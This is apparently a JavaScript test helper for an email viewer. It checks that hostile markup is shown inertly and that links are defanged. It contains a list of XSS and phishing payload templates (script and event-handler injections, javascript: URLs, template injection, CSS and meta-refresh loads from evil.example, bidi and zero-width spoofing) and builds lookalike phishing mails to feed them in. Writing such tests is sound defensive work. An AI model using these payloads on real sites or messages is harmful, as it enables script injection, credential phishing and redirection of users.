// Strings that would run, load or lead away wherever they were taken for markup, and what shows that they were not.

import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { BAIT, button, mail, mailbox } from './mails.mjs';
import { freshFolder } from './places.mjs';

const templates = [
  (n) => `<script>globalThis.ran=${n}</script>`,
  (n) => `<img src=x onerror="globalThis.ran=${n}">`,
  (n) => `<svg/onload=globalThis.ran=${n}>`,
  (n) => `"><script src=https://evil.example/${n}.js></script>`,
  (n) => `'-(globalThis.ran=${n})-'`,
  (n) => `javascript:globalThis.ran=${n}`,
  (n) => `<a href="https://evil.example/${n}">open</a>`,
  (n) => `<a href="javascript:globalThis.ran=${n}">open</a>`,
  (n) => `{{constructor.constructor('globalThis.ran=${n}')()}}`,
  (n) => `{@html '<img src=x onerror=globalThis.ran=${n}>'}`,
  (n) => `\${globalThis.ran=${n}}`,
  (n) => `<iframe srcdoc="<script>parent.ran=${n}</script>"></iframe>`,
  (n) => `</title></style></textarea></script><script>globalThis.ran=${n}</script>`,
  (n) => `<style>@import 'https://evil.example/${n}.css'</style>`,
  (n) => `<meta http-equiv=refresh content="0;url=https://evil.example/${n}">`,
  (n) => `<base href=https://evil.example/${n}/>`,
  (n) => `<form action=https://evil.example/${n}><input autofocus onfocus=globalThis.ran=${n}></form>`,
  (n) => `&lt;script&gt;globalThis.ran=${n}&lt;/script&gt;`,
  (n) => `<details open ontoggle=globalThis.ran=${n}>x</details>`,
  (n) => `" autofocus onfocus="globalThis.ran=${n}" x="`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=globalThis.ran=${n}>`,
  (n) => `<video><source onerror=globalThis.ran=${n}></video>`,
  (n) => `\u202Egpj.${n}.exe\u202C \u2066https://evil.example/${n}\u2069`,
  (n) => `pay\u200Bpal\u00AD.${n}\u2060\uFEFF`,
  (n) => `https://evil.example/${n}?next=javascript:alert(1)`,
];

/** So many different ones. */
export const payloads = (count) =>
  Array.from({ length: count }, (_, index) => templates[index % templates.length](index + 1));

/** A text as HTML shows it. */
const escaped = (text) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');

/** A mail full of them: in subject, names, the texts of links, and the names of attached files. */
export function loaded(strings) {
  const [subject, from, inSubject, inFrom, ...rest] = strings;
  const half = Math.ceil(rest.length / 2);
  const links = rest.slice(0, half).map((text, index) => {
    const address = `https://acme-login.example/p/${index}?x=${encodeURIComponent(text)}`;
    return `<p><a href="${escaped(address)}">${escaped(text)}</a></p>`;
  });
  return mail({
    subject: `${subject} ${inSubject}`,
    from: mailbox(`${from} ${inFrom}`, 'billing@acme-support.example'),
    html: `<!doctype html><html><body>${button(BAIT, escaped(subject))}${links.join('')}</body></html>`,
    attached: rest.slice(half).map((name) => ({ type: 'text/plain', name, body: name })),
  });
}

/** Programs that would open an address, in the place of the real ones: what they were asked for is remembered. */
export function openers() {
  const folder = freshFolder('openers');
  const asked = join(folder, 'asked');
  for (const name of ['xdg-open', 'gio', 'gnome-open', 'kde-open', 'kde-open5', 'sensible-browser', 'wslview']) {
    writeFileSync(join(folder, name), `#!/bin/sh\necho "$0 $*" >>'${asked}'\n`);
    chmodSync(join(folder, name), 0o700);
  }
  return {
    env: { PATH: `${folder}:${process.env.PATH}` },
    asked: () => (existsSync(asked) ? readFileSync(asked, 'utf8') : ''),
  };
}

/** Begins to remember what the page refuses to run or load. */
export const listenForRefusals = (window) =>
  window.script(() => {
    globalThis.refused = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      globalThis.refused.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`),
    );
  });

/** What of the page as it is now is more than text: a line each. */
export const moreThanText = (window) =>
  window.script(() => {
    const lines = [];
    if (globalThis.ran !== undefined) lines.push(`something ran: ${globalThis.ran}`);
    lines.push(...globalThis.refused.map((one) => `refused: ${one}`));
    const ours = (address) => address === '#' || /^(\.\/|\/)?assets\//.test(address);
    for (const one of document.querySelectorAll('*')) {
      for (const { name, value } of one.attributes) {
        const leads = ['href', 'src', 'srcset', 'action', 'formaction', 'srcdoc', 'data', 'poster', 'xlink:href'];
        if (leads.includes(name) && !ours(value)) lines.push(`${one.localName} ${name}=${value}`);
        if (name.startsWith('on')) lines.push(`${one.localName} ${name}=${value}`);
      }
      if (['iframe', 'base', 'object', 'embed', 'video', 'math'].includes(one.localName)) lines.push(one.localName);
    }
    const told = () => document.body.innerText + document.title;
    const unseen = told().match(/.{0,20}[\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF\u00AD].{0,20}/);
    if (unseen) lines.push(`what can't be seen: ${escape(unseen[0])}`);
    // Names of files and what was sent stand there to the letter.
    const to_the_letter = [...document.querySelectorAll('.tray .inside, .sentone')];
    for (const one of to_the_letter) one.style.visibility = 'hidden';
    const live = told().match(/.{0,30}(https?:\/\/).{0,30}/i);
    for (const one of to_the_letter) one.style.removeProperty('visibility');
    if (live) lines.push(`an address as it can be followed: ${live[0]}`);
    return lines;
  });

/** Every place that shows an address and is no control of the window itself: the innermost elements. */
export const shownAddresses = (window) =>
  window.script(() => {
    const room = document.querySelector('dialog[open]') ?? document.querySelector('main');
    const shows = (node) => node.nodeType === Node.TEXT_NODE && /hxxp|\[\.\]/.test(node.data);
    return [...room.querySelectorAll('*')]
      .filter((one) => [...one.childNodes].some(shows))
      .filter((one) => one.closest('a, button, summary, label, input, textarea') === null)
      .filter((one) => one.checkVisibility({ visibilityProperty: true }));
  });

/** A point of the window in which an element is seen, once it was scrolled there; null when something lies above it. */
export const pointOf = (window, element) =>
  window.script((one) => {
    one.scrollIntoView({ block: 'center' });
    for (const { left, top, width, height } of one.getClientRects()) {
      const x = Math.round(left + Math.min(12, width / 2));
      // What is longer than the window is met in its middle.
      for (const y of [Math.round(top + Math.min(8, height / 2)), Math.round(innerHeight / 2)]) {
        if (one.contains(document.elementFromPoint(x, y))) return { x, y };
      }
    }
    return null;
  }, element);

/** Addresses that are a link, or can be reached by Tab, and are no control of ours: there must be none. */
export const followable = (window) =>
  window.script(() =>
    [...document.querySelectorAll('.url, bdi')]
      .filter((one) => /hxxp|\[\.\]/.test(one.textContent))
      .filter((one) => one.tabIndex >= 0 || one.matches('a') || one.isContentEditable || one.draggable)
      .map((one) => one.outerHTML.slice(0, 200)),
  );
